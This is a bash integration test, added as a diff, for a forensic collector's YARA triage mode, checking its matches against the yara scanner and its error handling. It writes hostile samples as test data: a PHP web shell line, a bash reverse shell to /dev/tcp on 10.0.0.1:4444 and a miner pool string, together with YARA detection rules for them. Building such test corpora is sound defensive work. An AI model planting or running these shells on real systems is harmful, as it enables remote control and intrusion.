@@ -1,0 +1,62 @@
+#!/usr/bin/env bash
+# Triage through the collector's command line: a triage-only run finds exactly what the yara
+# command-line scanner finds on the same corpus, writes a small package with the matches in
+# case.db and live/triage/, stores matching files on request, and a rule that does not compile
+# stops the run before anything is written.
+source "$TEST_HELPERS"
+
+mkdir -p corpus/www/uploads corpus/tmp corpus/deep/a/b
+printf '<?php eval($_POST["cmd"]); ?>\n' >corpus/www/uploads/shell.php
+printf 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >corpus/tmp/rs.sh
+printf 'nothing to see\n' >corpus/www/index.html
+head -c 200000 /dev/urandom >corpus/deep/a/b/random.bin
+printf 'stratum+tcp://pool.example:3333 PLANTED_MARKER_42\n' >corpus/deep/a/b/miner.conf
+mkfifo corpus/tmp/fifo
+cat >rules.yar <<'YAR'
+rule planted_marker { meta: severity = "high" strings: $a = "PLANTED_MARKER_42" condition: $a }
+rule php_eval_post { strings: $a = "eval($_POST" condition: $a }
+rule dev_tcp { meta: severity = "critical" strings: $a = "/dev/tcp/" condition: $a }
+rule never_matches { strings: $a = "no such string anywhere 7f3a" condition: $a }
+YAR
+
+expect_exit 0 timeout 120 "$COLLECTOR" --profile none --rules rules.yar --scan "$PWD/corpus" \
+  --no-encrypt --case-dir cases --case-id TRIAGE --quiet
+pkg=$OUT
+[[ -f $pkg ]] || fail "no package written"
+ok "triage-only run writes a package: $(stat -c %s "$pkg") bytes"
+
+expect_exit 0 "$BIUNZIP" extract "$pkg" -o out
+ours=$(sqlite3 out/case.db "select rule || ' ' || path from triage_matches where target_type = 'file' order by 1")
+theirs=$(yara -r rules.yar "$PWD/corpus" | sort)
+[[ -n $theirs ]] || fail "yara found nothing: the corpus is wrong"
+[[ $ours == "$theirs" ]] || fail "matches differ from yara's:
+ours:
+$ours
+yara:
+$theirs"
+ok "the (rule, file) matches equal yara -r's ($(wc -l <<<"$theirs") matches)"
+
+[[ $(wc -l <out/live/triage/matches.jsonl) -eq $(wc -l <<<"$theirs") ]] || fail "JSONL rows differ from case.db"
+jq -e -s 'map(select(.rule == "dev_tcp")) | length == 1 and all(.severity == "critical" and (.sha256 | length) == 64)' \
+  out/live/triage/matches.jsonl >/dev/null || fail "dev_tcp row lacks severity or sha256"
+ok "matches also in live/triage/matches.jsonl with severity and sha256"
+
+expect_exit 0 timeout 120 "$COLLECTOR" --profile none --rules rules.yar --scan "$PWD/corpus" \
+  --collect-matches --no-encrypt --case-dir cases2 --quiet
+expect_exit 0 "$BIUNZIP" extract "$OUT" -o out2
+cmp out2/files"$PWD"/corpus/tmp/rs.sh corpus/tmp/rs.sh || fail "--collect-matches did not store rs.sh"
+[[ ! -e out2/files"$PWD"/corpus/www/index.html ]] || fail "a file without a match was stored"
+ok "--collect-matches stores exactly the matching files"
+
+printf 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n' >bad.yar
+expect_exit 2 "$COLLECTOR" --profile none --rules bad.yar --scan "$PWD/corpus" --no-encrypt --case-dir cases3
+# The line yara's own compiler reports for the same file.
+yara_err=$(yara bad.yar /dev/null 2>&1 || true)
+line=$(grep '^error' <<<"$yara_err" | grep -o 'bad.yar([0-9]*)' | grep -o '[0-9][0-9]*' | head -n 1)
+[[ -n $line ]] || fail "yara did not report a line for bad.yar"
+contains "$ERR" "bad.yar:$line:"
+contains "$ERR" 'undefined string'
+[[ $(wc -l <<<"$ERR") -eq 1 ]] || fail "the error is not one line: $ERR"
+[[ ! -e cases3 ]] || fail "a package or case directory was written despite the bad rule"
+ok "a rule that does not compile stops the run first, naming file:line"
+echo "$pass_count passed, 0 failed"
